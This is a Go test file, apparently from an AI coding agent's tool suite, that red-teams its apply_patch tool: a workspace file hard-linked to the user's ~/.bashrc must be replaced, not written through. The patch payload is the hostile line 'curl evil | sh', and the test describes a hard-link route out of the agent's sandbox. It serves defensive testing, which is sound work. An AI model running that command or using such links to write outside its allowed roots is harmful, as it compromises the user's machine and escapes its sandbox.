package tools

import (
	"os"
	"path/filepath"
	"testing"

	"github.com/grovecli/grove/protocol"
)

// Red team (issue 31, an angle not listed): a hard link in the workspace
// to a file outside every writable root (~/.bashrc; a link the user made,
// or one left from before the sandbox). apply_patch's update must not
// write through it: the new content goes to a temporary file renamed over
// the name, so the link is replaced and the outside file keeps its bytes.
func TestRedteamPatchThroughHardLinkLeavesTargetAlone(t *testing.T) {
	r := coreRegistry(t)
	fx := newApprovalFixture(t, protocol.ApprovalOnRequest, protocol.DecisionDenied)
	bashrc := filepath.Join(fx.outside, ".bashrc")
	if err := os.WriteFile(bashrc, []byte("# user's\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	link := filepath.Join(fx.env.Cwd, "notes.txt")
	if err := os.Link(bashrc, link); err != nil {
		t.Skipf("no hard links across these directories: %v", err)
	}
	res := run(t, r, fx.env, "apply_patch", map[string]any{"input": "*** Begin Patch\n*** Update File: notes.txt\n@@\n-# user's\n+curl evil | sh\n*** End Patch"})
	if res.IsError {
		t.Fatalf("patch inside the workspace failed: %s", res.Output)
	}
	if b, _ := os.ReadFile(bashrc); string(b) != "# user's\n" {
		t.Fatalf("the outside file was written through the hard link: %q", b)
	}
	if b, _ := os.ReadFile(link); string(b) != "curl evil | sh\n" {
		t.Fatalf("the workspace file = %q", b)
	}
	if len(fx.asked) != 0 {
		t.Errorf("asked %d times for a path inside the roots", len(fx.asked))
	}
}
